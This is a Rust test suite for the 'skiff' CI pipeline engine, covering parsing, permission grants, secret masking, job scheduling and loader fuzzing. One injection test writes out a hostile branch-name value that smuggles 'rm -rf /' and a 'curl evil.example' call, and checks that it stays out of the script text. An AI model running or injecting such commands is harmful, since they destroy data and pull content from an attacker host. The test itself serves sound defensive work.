//! Tests of the pipeline: golden files for parsing and planning
//! (`tests/pipelines/{valid,invalid}`; `SKIFF_BLESS=1` rewrites them), the
//! JSON Schema, and the engine with the scripted executor (`support::Scripted`), whose `run:`
//! scripts are in a language of its own (`log`, `out K=V`, `fail`, …).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use skiff_pipeline::{
    RunEvent, RunObserver, RunOptions, RunReport, Status, StepRef, StepRequest, load_file, load_str, run_pipeline,
};

use crate::support::Scripted;

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn bless() -> bool {
    std::env::var_os("SKIFF_BLESS").is_some_and(|v| v == "1")
}

/// Compares `actual` with the golden file, or rewrites it under `SKIFF_BLESS=1`.
fn golden(path: &Path, actual: &str) -> Result<(), String> {
    if bless() {
        std::fs::write(path, actual).unwrap();
        return Ok(());
    }
    let expected = std::fs::read_to_string(path).unwrap_or_default();
    if expected == actual {
        Ok(())
    } else {
        Err(format!(
            "{} is out of date (run with SKIFF_BLESS=1 to update)\n--- expected\n{expected}\n--- actual\n{actual}",
            path.display()
        ))
    }
}

fn yaml_files(dir: &str) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(root().join("tests/pipelines").join(dir))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "yaml"))
        .collect();
    v.sort();
    v
}

fn load_named(path: &Path) -> Result<skiff_pipeline::Plan, skiff_pipeline::Diagnostics> {
    let text = std::fs::read_to_string(path).unwrap();
    let name = path.file_name().unwrap().to_string_lossy().to_string();
    load_str(&text, &name, path.parent().unwrap())
}

#[test]
fn pipeline_valid_files_match_their_plans() {
    let mut failures = Vec::new();
    for y in yaml_files("valid") {
        match load_named(&y) {
            Ok(plan) => {
                if let Err(e) = golden(&y.with_extension("plan"), &plan.render()) {
                    failures.push(e);
                }
            }
            Err(d) => failures.push(format!("{} should be valid:\n{d}", y.display())),
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[test]
fn pipeline_invalid_files_match_their_errors() {
    let mut failures = Vec::new();
    for y in yaml_files("invalid") {
        match load_named(&y) {
            Ok(_) => failures.push(format!("{} should be invalid", y.display())),
            Err(d) => {
                if let Err(e) = golden(&y.with_extension("err"), &format!("{d}\n")) {
                    failures.push(e);
                }
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[test]
fn pipeline_schema_is_current() {
    let path = root().parent().unwrap().join("docs/pipeline.schema.json");
    let actual = skiff_pipeline::schema::schema_text();
    if let Err(e) = golden(&path, &actual) {
        panic!("{}", e.lines().next().unwrap_or_default());
    }
}

#[test]
fn pipeline_examples_are_valid() {
    let examples = root().parent().unwrap().join("examples");
    for p in ["hello/.skiff/pipeline.yaml", "serverless-cd/serverless-pipeline.yaml"] {
        if let Err(d) = load_file(&examples.join(p)) {
            panic!("{p}:\n{d}");
        }
    }
}

/// The pipelines docs/deploy.md shows (its YAML blocks with `steps:`) are valid as written.
#[test]
fn the_deploy_guide_s_pipelines_are_valid() {
    let guide = std::fs::read_to_string(root().parent().unwrap().join("docs/deploy.md")).unwrap();
    let blocks: Vec<&str> = guide
        .split("```yaml\n")
        .skip(1)
        .filter_map(|b| b.split("```").next())
        .filter(|b| b.contains("steps:"))
        .collect();
    assert!(blocks.len() >= 2, "docs/deploy.md shows its pipelines in ```yaml blocks");
    for (i, text) in blocks.iter().enumerate() {
        if let Err(d) = load_str(text, "pipeline.yaml", Path::new(".")) {
            panic!("docs/deploy.md, pipeline {}:\n{d}\n{text}", i + 1);
        }
    }
}

/// A step's grants are decided once, when the pipeline is read, and what the pipeline did not
/// write is said: a `run:` step's process, and the network of Serverless-cd's compatibility
/// mode, which a `serverless-pipeline.yaml` has unless it says `compat: none`, and any pipeline
/// may ask for with `compat: serverless-cd`.
#[test]
fn grants_are_decided_with_the_pipeline_and_compat_is_explicit() {
    let dir = tempfile::tempdir().unwrap();
    let text = "steps:\n  - run: npm i\n  - run: curl x\n    permissions: { process: true }\n  - uses: diag\n";
    let load = |name: &str, text: &str| {
        let f = dir.path().join(name);
        std::fs::write(&f, text).unwrap();
        load_file(&f).unwrap_or_else(|d| panic!("{d}"))
    };
    let g = |p: &skiff_pipeline::Plan, i: usize| p.jobs[0].steps[i].grants.clone();

    let sp = load("serverless-pipeline.yaml", text);
    assert_eq!(sp.compat.map(|c| c.name()), Some("serverless-cd"));
    assert!(g(&sp, 0).process && g(&sp, 0).network, "{:?}", g(&sp, 0));
    assert_eq!(g(&sp, 0).implied.len(), 2, "{:?}", g(&sp, 0).implied);
    // A step that says what it needs gets that, and no more.
    assert!(g(&sp, 1).process && !g(&sp, 1).network && g(&sp, 1).implied.is_empty());
    assert!(!g(&sp, 2).process && !g(&sp, 2).network);
    let shown = sp.render();
    assert!(shown.contains("compat: serverless-cd"), "{shown}");
    assert!(shown.contains("implied: network: Serverless-cd compatibility"), "{shown}");

    let off = load("serverless-pipeline.yml", &format!("compat: none\n{text}"));
    assert_eq!(off.compat, None);
    assert!(g(&off, 0).process && !g(&off, 0).network);
    assert!(!off.render().contains("compat:"));

    let on = load("pipeline.yaml", &format!("compat: serverless-cd\n{text}"));
    assert!(g(&on, 0).network);
    let plain = load("other.yaml", text);
    assert!(plain.compat.is_none() && !g(&plain, 0).network && g(&plain, 0).process);
    assert!(plain.render().contains("implied: process: a `run:` step's script runs as a process"));

    let f = dir.path().join("bad.yaml");
    std::fs::write(&f, format!("compat: gitlab\n{text}")).unwrap();
    let err = load_file(&f).unwrap_err().to_string();
    assert!(err.contains("compat") && err.contains("serverless-cd"), "{err}");
}

// ------------------------------------------------------------------ engine

#[derive(Default)]
struct Events(Mutex<Vec<RunEvent>>);

impl RunObserver for Events {
    fn event(&self, e: &RunEvent) {
        self.0.lock().unwrap().push(e.clone());
    }
}

impl Events {
    fn json(&self) -> String {
        self.0.lock().unwrap().iter().map(|e| serde_json::to_string(e).unwrap()).collect::<Vec<_>>().join("\n")
    }
    fn logs(&self) -> Vec<String> {
        self.0
            .lock()
            .unwrap()
            .iter()
            .filter_map(|e| match e {
                RunEvent::Log(l) => Some(l.text.clone()),
                _ => None,
            })
            .collect()
    }
}

struct Run {
    report: RunReport,
    exec: Arc<Scripted>,
    events: Arc<Events>,
    _ws: tempfile::TempDir,
}

impl Run {
    fn job(&self, key: &str) -> &skiff_pipeline::JobReport {
        self.report.jobs.iter().find(|j| j.key == key).unwrap_or_else(|| panic!("no job {key}"))
    }
    fn steps(&self, key: &str) -> Vec<(String, Status)> {
        self.job(key).steps.iter().map(|s| (s.id.clone(), s.status)).collect()
    }
    fn request(&self, step_id: &str) -> StepRequest {
        self.exec.call(step_id)
    }
}

async fn run_with(yaml: &str, f: impl FnOnce(&mut RunOptions)) -> Run {
    run_on(Scripted::new(), yaml, f).await
}

/// Runs `yaml` with `exec`, scripted for the test.
async fn run_on(exec: Scripted, yaml: &str, f: impl FnOnce(&mut RunOptions)) -> Run {
    let plan = match load_str(yaml, "test.yaml", Path::new(".")) {
        Ok(p) => p,
        Err(d) => panic!("{d}"),
    };
    let ws = tempfile::tempdir().unwrap();
    let mut opts = RunOptions {
        run_id: "r1".into(),
        run_number: 7,
        run_attempt: 1,
        event: serde_json::json!({"name": "push", "ref": "refs/heads/main"}),
        workspace: ws.path().to_path_buf(),
        ..Default::default()
    };
    f(&mut opts);
    let exec = Arc::new(exec);
    let events = Arc::new(Events::default());
    let report = run_pipeline(&plan, opts, exec.clone(), events.clone()).await;
    Run { report, exec, events, _ws: ws }
}

async fn run(yaml: &str) -> Run {
    run_with(yaml, |_| {}).await
}

use Status::{Failure, Skipped, Success};

/// `script:` (and `run:` with `shell: js`) becomes the built-in `script` step: its source as
/// the `script` input, every `${{ }}` a `process.env` reference whose value travels in the
/// environment, the position of its first character as `origin`, and no process granted
/// unless the step asks (its `$` needs `permissions: { process: true }` like any component's).
#[tokio::test]
async fn script_steps_run_javascript_in_the_script_component_with_values_never_in_code() {
    let yaml = r#"
steps:
  - id: a
    script: |
      const v = `${{ event.ref }}`;
      console.log(v)
  - id: b
    run: console.log('${{ run.number }}')
    shell: js
    permissions: { process: true }
"#;
    let r = run(yaml).await;
    let a = r.request("a");
    assert!(matches!(&a.uses, StepRef::Builtin(b) if b == "script"), "{:?}", a.uses);
    assert_eq!(a.inputs["script"], "const v = `${process.env.SKIFF_EXPR_1}`;\nconsole.log(v)\n");
    assert_eq!(a.inputs["origin"], "test.yaml:5:7");
    assert_eq!(a.env["SKIFF_EXPR_1"], "refs/heads/main");
    assert!(!a.grants.process && !a.grants.network, "{:?}", a.grants);
    let b = r.request("b");
    assert!(matches!(&b.uses, StepRef::Builtin(n) if n == "script"));
    assert!(!b.inputs["script"].contains('7') && b.env.values().any(|v| v == "7"), "{:?}", b.inputs);
    assert!(b.grants.process);
    let plan = load_str(yaml, "test.yaml", Path::new(".")).unwrap();
    assert!(plan.render().contains("uses: builtin script (JavaScript"), "{}", plan.render());
    for (bad, why) in [
        ("steps:\n  - script: x\n    run: y\n", "one of `run`, `script`, `uses` or `plugin`"),
        ("steps:\n  - script: 'await $`${{ event.ref }}`'\n    shell: bash\n", "`shell` only applies to a `run:` step"),
    ] {
        let err = load_str(bad, "t.yaml", Path::new(".")).unwrap_err().to_string();
        assert!(err.contains(why), "{bad}: {err}");
    }
}

/// Serverless-cd documented `run: "@serverless-cd/dingding"` as a plugin call: its
/// compatibility mode maps it like `plugin:`; elsewhere it is refused with the fix, not run
/// as a shell command.
#[test]
fn a_serverless_cd_plugin_named_in_run_is_the_plugin() {
    let steps = "steps:\n  - run: '@serverless-cd/dingding'\n    with:\n      webhook: https://oapi.dingtalk.com/robot/send?access_token=x\n";
    let plan =
        load_str(&format!("compat: serverless-cd\n{steps}"), "serverless-pipeline.yaml", Path::new(".")).unwrap();
    let step = &plan.jobs[0].steps[0];
    assert!(matches!(&step.uses, skiff_pipeline::plan::Uses::Builtin(b) if b == "notify"), "{:?}", step.uses);
    assert_eq!(step.with["provider"].raw, "dingtalk");
    assert_eq!(step.grants.hosts, vec!["${inputs.webhook}".to_string()]);
    assert!(!step.grants.network && !step.grants.process);
    let err = load_str(steps, "pipeline.yaml", Path::new(".")).unwrap_err().to_string();
    assert!(
        err.contains("is a Serverless-cd plugin, not a command: write `plugin: '@serverless-cd/dingding'`"),
        "{err}"
    );
}

#[tokio::test]
async fn pipeline_engine_runs_steps_and_passes_outputs_env_and_path() {
    let r = run(r#"
steps:
  - id: a
    run: |
      out v=1.2
      env GREETING=hi
      path /opt/tool/bin
  - id: b
    uses: diag
    with:
      message: v${{ steps.a.outputs.v }} ${{ run.number }} ${{ steps.a.outputs.nope }}|
  - id: c
    run: log ${GREETING} ${PATH}
"#)
    .await;
    assert!(r.report.success(), "{:?}", r.report);
    assert_eq!(r.request("b").inputs["message"], "v1.2 7 |");
    assert_eq!(r.request("c").env["GREETING"], "hi");
    // In front of the sandbox's default PATH, which it does not replace.
    assert_eq!(r.request("c").env["PATH"], "/opt/tool/bin:/usr/local/bin:/usr/bin:/bin");
    assert!(r.events.logs().contains(&"hi /opt/tool/bin:/usr/local/bin:/usr/bin:/bin".to_string()));
    // A single job runs in the workspace itself.
    assert_eq!(r.request("a").workspace, r._ws.path());
}

/// `uses:` steps scripted for the test: a built-in's outputs reach later steps, and when one
/// fails the job stops there, but for what runs on failure.
#[tokio::test]
async fn pipeline_engine_builtin_outputs_and_failures_shape_the_job() {
    let exec = Scripted::new().step("version", "out v=2.0.1\nlog computed").uses("checkout", "fail no such ref");
    let yaml = r#"
steps:
  - id: version
    uses: diag
  - id: fetch
    uses: checkout
    with:
      ref: v${{ steps.version.outputs.v }}
  - id: after
    run: log never
  - id: report
    if: failure()
    uses: diag
    with:
      message: fetch ended in ${{ steps.fetch.outcome }}
"#;
    let r = run_on(exec, yaml, |_| {}).await;
    assert_eq!(r.report.status, Failure);
    assert_eq!(r.request("fetch").inputs["ref"], "v2.0.1");
    assert_eq!(
        r.steps("main"),
        vec![
            ("version".into(), Success),
            ("fetch".into(), Failure),
            ("after".into(), Skipped),
            ("report".into(), Success)
        ]
    );
    assert_eq!(r.job("main").steps[1].error.as_deref(), Some("no such ref"));
    assert_eq!(r.events.logs(), vec!["computed", "fetch ended in failure"]);
}

/// The scripted executor runs no shell: a line it does not know fails the step, so a test
/// whose script has a typo fails instead of passing with a step that did nothing.
#[tokio::test]
async fn the_scripted_executor_fails_a_step_it_cannot_read() {
    let r = run("steps:\n  - run: |\n      log fine\n      ehco hi\n").await;
    assert_eq!(r.report.status, Failure);
    let err = r.job("main").steps[0].error.clone().unwrap();
    assert!(err.contains("line 2 of the script") && err.contains("no command `ehco`"), "{err}");
    assert!(r.events.logs().is_empty(), "nothing of a script it cannot read runs: {:?}", r.events.logs());
}

#[tokio::test]
async fn pipeline_engine_if_defaults_to_success_and_honours_failure_and_always() {
    let r = run(r#"
steps:
  - id: bad
    run: fail broken
  - id: skipped
    run: log never
  - id: on-failure
    if: failure()
    run: log recovering
  - id: always
    if: ${{ always() }}
    run: log always
  - id: plain-condition
    if: event.name == 'push'
    run: log no
"#)
    .await;
    assert_eq!(r.report.status, Failure);
    assert_eq!(
        r.steps("main"),
        vec![
            ("bad".into(), Failure),
            ("skipped".into(), Skipped),
            ("on-failure".into(), Success),
            ("always".into(), Success),
            ("plain-condition".into(), Skipped),
        ]
    );
    let bad = &r.job("main").steps[0];
    assert_eq!(bad.error.as_deref(), Some("broken"));
}

#[tokio::test]
async fn pipeline_engine_continue_on_error_and_outcome() {
    let r = run(r#"
steps:
  - id: flaky
    run: fail oops
    continue-on-error: true
  - id: next
    if: steps.flaky.outcome == 'failure' && steps.flaky.conclusion == 'success'
    run: log went on
"#)
    .await;
    assert!(r.report.success());
    assert_eq!(r.steps("main"), vec![("flaky".into(), Failure), ("next".into(), Success)]);
}

#[tokio::test]
async fn pipeline_engine_dag_skips_dependents_of_a_failed_job_unless_always() {
    let r = run(r#"
jobs:
  a:
    outputs:
      v: ${{ steps.s.outputs.v }}
    steps:
      - id: s
        run: out v=42
  b:
    needs: a
    steps:
      - id: use
        uses: diag
        with:
          message: got ${{ needs.a.outputs.v }} ${{ needs.a.result }}
      - run: fail no
  c:
    needs: b
    steps:
      - run: log c
  d:
    needs: [b]
    if: always()
    steps:
      - id: report
        uses: diag
        with:
          message: b was ${{ needs.b.result }}
  e:
    needs: [b]
    if: failure()
    steps:
      - run: log e
"#)
    .await;
    assert_eq!(r.report.status, Failure);
    assert_eq!(r.request("use").inputs["message"], "got 42 success");
    assert_eq!(r.job("a").outputs["v"], "42");
    assert_eq!(r.job("b").status, Failure);
    assert_eq!(r.job("c").status, Skipped);
    assert_eq!(r.job("d").status, Success);
    assert_eq!(r.job("e").status, Success);
    assert_eq!(r.request("report").inputs["message"], "b was failure");
    // Several jobs: each in its own folder.
    assert!(r.request("use").workspace.ends_with("b"));
    // Order: a before b before d.
    let order: Vec<String> = r.exec.calls().iter().map(|q| q.job_id.clone()).collect();
    let pos = |j: &str| order.iter().position(|x| x == j).unwrap();
    assert!(pos("a") < pos("b") && pos("b") < pos("d"));
}

#[tokio::test]
async fn pipeline_engine_runs_independent_jobs_in_parallel() {
    let yaml = r#"
jobs:
  one:
    steps:
      - run: sleep 300
  two:
    steps:
      - run: sleep 300
  three:
    steps:
      - run: sleep 300
"#;
    let t = std::time::Instant::now();
    let r = run(yaml).await;
    assert!(r.report.success());
    assert!(t.elapsed() < Duration::from_millis(800), "took {:?}", t.elapsed());
}

#[tokio::test]
async fn pipeline_engine_post_scripts_run_in_reverse_as_always() {
    let r = run(r#"
steps:
  - id: one
    run: log one
    post: log cleanup-one
  - id: two
    run: |
      post log cleanup-two
      fail stop
  - id: three
    run: log three
    post: log cleanup-three
"#)
    .await;
    assert_eq!(r.report.status, Failure);
    let logs = r.events.logs();
    let i2 = logs.iter().position(|l| l == "cleanup-two").expect("post of two ran");
    let i1 = logs.iter().position(|l| l == "cleanup-one").expect("post of one ran");
    assert!(i2 < i1, "{logs:?}");
    assert!(!logs.contains(&"cleanup-three".to_string()), "step three never ran");
    let ids: Vec<String> = r.steps("main").into_iter().map(|s| s.0).collect();
    assert_eq!(ids, vec!["one", "two", "three", "post-1", "post-2"]);
}

#[tokio::test]
async fn pipeline_engine_matrix_expands_and_fail_fast_cancels_the_rest() {
    let r = run(r#"
jobs:
  test:
    strategy:
      max-parallel: 1
      matrix:
        n: [1, 2, 3]
    steps:
      - run: |
          log n=${N}
          fail on purpose
        env:
          N: ${{ matrix.n }}
"#)
    .await;
    assert_eq!(r.report.status, Failure);
    assert_eq!(r.job("test-1").status, Failure);
    assert_eq!(r.job("test-2").status, Status::Cancelled);
    assert_eq!(r.job("test-3").status, Status::Cancelled);
    assert_eq!(r.events.logs(), vec!["n=1"]);

    let r = run(r#"
jobs:
  test:
    strategy:
      fail-fast: false
      matrix:
        os: [linux, mac]
        v: [1, 2]
        exclude: [{os: mac, v: 1}]
        include: [{os: linux, extra: yes}, {os: windows, v: 9}]
    steps:
      - run: log ${{ matrix.os }}-${{ matrix.v }}-${{ matrix.extra }}
"#)
    .await;
    assert!(r.report.success());
    let mut logs = r.events.logs();
    logs.sort();
    assert_eq!(logs, vec!["linux-1-yes", "linux-2-yes", "mac-2-", "windows-9-"]);
}

#[tokio::test]
async fn pipeline_engine_secrets_are_granted_by_reference_and_masked() {
    let r = run_with(
        r#"
env:
  PUBLIC: open
steps:
  - id: uses-one
    uses: diag
    with:
      message: token ${{ secrets.TOKEN }}
  - id: explicit
    uses: diag
    permissions:
      secrets: [OTHER]
  - id: none
    run: log ${PUBLIC}
"#,
        |o| {
            o.secrets = BTreeMap::from([
                ("TOKEN".into(), "s3cr3t-value".into()),
                ("OTHER".into(), "another-secret".into()),
                ("UNUSED".into(), "unused-secret".into()),
            ]);
        },
    )
    .await;
    assert!(r.report.success());
    assert_eq!(r.request("uses-one").secrets.keys().collect::<Vec<_>>(), vec!["TOKEN"]);
    assert_eq!(r.request("explicit").secrets.keys().collect::<Vec<_>>(), vec!["OTHER"]);
    assert!(r.request("none").secrets.is_empty());
    let json = r.events.json();
    assert!(!json.contains("s3cr3t-value"), "{json}");
    assert!(json.contains("token ***"), "{json}");
    assert!(!json.contains("unused-secret"));
}

#[tokio::test]
async fn pipeline_engine_expressions_reach_run_scripts_as_env_not_text() {
    let evil = "main\"; rm -rf / ; echo $(curl evil.example) `id` ${HOME}";
    let r = run_with(
        r#"
steps:
  - id: s
    run: |
      log branch=${{ event.branch }}
      log again ${{ event.branch }}
"#,
        |o| o.event = serde_json::json!({"branch": evil}),
    )
    .await;
    assert!(r.report.success());
    let req = r.request("s");
    let StepRef::Shell { script, shell } = &req.uses else { panic!("a shell step") };
    assert_eq!(shell, "bash");
    assert_eq!(script, "log branch=\"${SKIFF_EXPR_1}\"\nlog again \"${SKIFF_EXPR_2}\"\n");
    assert!(!script.contains("rm -rf"));
    assert_eq!(req.env["SKIFF_EXPR_1"], evil);
    assert_eq!(req.env["SKIFF_EXPR_2"], evil);
}

#[tokio::test]
async fn pipeline_engine_expression_errors_name_file_line_and_expression() {
    let r = run(r#"
steps:
  - id: s
    uses: diag
    with:
      message: ${{ fromJSON('not json') }}
"#)
    .await;
    assert_eq!(r.report.status, Failure);
    let err = r.job("main").steps[0].error.clone().unwrap();
    assert!(err.starts_with("test.yaml:6:16: expression `fromJSON('not json')` failed"), "{err}");
    assert!(r.exec.calls().is_empty(), "the step must not run");
}

#[tokio::test]
async fn pipeline_engine_job_filter_runs_the_job_and_its_needs() {
    let r = run_with(
        r#"
jobs:
  a:
    steps: [{run: log a}]
  b:
    needs: a
    steps: [{run: log b}]
  c:
    steps: [{run: log c}]
"#,
        |o| o.job = Some("b".into()),
    )
    .await;
    assert!(r.report.success());
    let keys: Vec<&str> = r.report.jobs.iter().map(|j| j.key.as_str()).collect();
    assert_eq!(keys, vec!["a", "b"]);
}

#[tokio::test]
async fn pipeline_engine_job_timeout_cancels_remaining_steps() {
    let r = run(r#"
jobs:
  slow:
    timeout-minutes: 0.005
    steps:
      - run: sleep 500
      - run: log after
      - if: cancelled()
        run: log saw-cancel
"#)
    .await;
    assert_ne!(r.report.status, Success);
    assert_eq!(r.events.logs(), vec!["saw-cancel"]);
}

#[tokio::test]
async fn pipeline_engine_serverless_cd_plugins_map_to_builtins() {
    let r = run(r#"
steps:
  - plugin: '@serverless-cd/checkout'
  - plugin: '@serverless-cd/ding-talk'
    id: ding
    inputs:
      webhook: https://oapi.dingtalk.com/robot/send
"#)
    .await;
    assert!(r.report.success());
    let reqs = r.exec.calls();
    assert_eq!(reqs[0].uses, StepRef::Builtin("checkout".into()));
    assert_eq!(reqs[1].uses, StepRef::Builtin("notify".into()));
    assert_eq!(reqs[1].inputs["provider"], "dingtalk");
}

#[tokio::test]
async fn pipeline_engine_emits_events_in_order() {
    let r = run("steps:\n  - run: log hi\n").await;
    let kinds: Vec<String> = r
        .events
        .0
        .lock()
        .unwrap()
        .iter()
        .map(|e| serde_json::to_value(e).unwrap()["event"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(
        kinds,
        vec!["run-started", "job-started", "step-started", "log", "step-finished", "job-finished", "run-finished"]
    );
}

/// Pipelines come from repositories, so from strangers: no input may panic the loader.
mod hostile_input {
    use proptest::prelude::*;
    use skiff_pipeline::load_str;

    const KEYS: &[&str] = &[
        "name",
        "env",
        "on",
        "jobs",
        "steps",
        "needs",
        "if",
        "run",
        "uses",
        "with",
        "plugin",
        "inputs",
        "strategy",
        "matrix",
        "include",
        "exclude",
        "outputs",
        "permissions",
        "post",
        "id",
        "${{",
        "}}",
        "secrets.X",
        "- ",
        ": ",
        "\n",
        "  ",
        "[",
        "]",
        "{",
        "}",
        "'",
        "\"",
        "&a",
        "*a",
        "!!str",
        "@serverless-cd/ding-talk",
        "steps.a.outputs.b",
    ];

    fn yamlish() -> impl Strategy<Value = String> {
        prop::collection::vec(
            prop_oneof![prop::sample::select(KEYS).prop_map(String::from), "[a-z0-9 :\\-\\n]{0,8}"],
            0..60,
        )
        .prop_map(|parts| parts.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(400))]

        #[test]
        fn the_loader_never_panics_on_yaml_like_text(text in yamlish()) {
            let _ = load_str(&text, "fuzz.yaml", std::path::Path::new("."));
        }

        #[test]
        fn the_loader_never_panics_on_arbitrary_text(text in "\\PC{0,300}") {
            let _ = load_str(&text, "fuzz.yaml", std::path::Path::new("."));
        }
    }
}

/// The crates are the architecture's seams: each may depend only on the layers below it. The
/// pipeline language works without the step runtime (a master, a linter or a fuzzer uses it);
/// the runtime knows nothing of the server's store or HTTP framework; no library crate carries
/// the command line's types (clap), which live in the `skiff` binary.
#[test]
fn each_crate_depends_only_on_the_layers_below_it() {
    let banned: &[(&str, &[&str])] = &[
        (
            "skiff-pipeline",
            &["wasmtime", "cranelift", "skiff-runtime", "skiff-server", "skiff-sandbox", "clap", "oci-client"],
        ),
        ("skiff-sandbox", &["wasmtime", "skiff-runtime", "skiff-server", "clap"]),
        (
            "skiff-runtime",
            &["skiff-server", "skiff-spin-host", "skiff-registry", "rusqlite", "axum", "clap", "oci-client"],
        ),
        ("skiff-registry", &["skiff-server", "skiff-spin-host", "rusqlite", "axum", "clap"]),
        ("skiff-spin-host", &["skiff-server", "clap"]),
        ("skiff-server", &["skiff-spin-host", "clap"]),
    ];
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
    for (krate, not) in banned {
        let out = std::process::Command::new(&cargo)
            .args(["tree", "-p", krate, "-e", "normal", "--prefix", "none", "--offline"])
            .current_dir(root())
            .output()
            .unwrap();
        let tree = String::from_utf8_lossy(&out.stdout);
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        assert!(tree.contains(krate), "{tree}");
        let names: Vec<&str> = tree.lines().filter_map(|l| l.split_whitespace().next()).collect();
        for dep in *not {
            assert!(!names.contains(dep), "{krate} depends on {dep}:\n{tree}");
        }
    }
}

/// Every step knows its run, as CI tools expect: `CI=true` and the `SKIFF_*` variables, which
/// a step's own `env` may still override.
#[tokio::test]
async fn pipeline_engine_every_step_gets_the_run_s_variables() {
    let yaml = "jobs:\n  build:\n    steps:\n      - id: a\n        run: log hi\n      - id: b\n        run: log hi\n        env:\n          CI: \"no\"\n";
    let r = run_with(yaml, |o| {
        o.event = serde_json::json!({
            "name": "push", "ref": "refs/heads/main", "sha": "c0ffee", "environment": "staging",
            "repository": {"full_name": "acme/web"}
        });
    })
    .await;
    let env = &r.request("a").env;
    for (k, v) in [
        ("CI", "true"),
        ("SKIFF_RUN_ID", "r1"),
        ("SKIFF_RUN_NUMBER", "7"),
        ("SKIFF_RUN_ATTEMPT", "1"),
        ("SKIFF_JOB", "build"),
        ("SKIFF_EVENT_NAME", "push"),
        ("SKIFF_REF", "refs/heads/main"),
        ("SKIFF_SHA", "c0ffee"),
        ("SKIFF_REPOSITORY", "acme/web"),
        ("SKIFF_ENVIRONMENT", "staging"),
    ] {
        assert_eq!(env.get(k).map(String::as_str), Some(v), "{k}: {env:?}");
    }
    assert_eq!(r.request("b").env["CI"], "no");
}
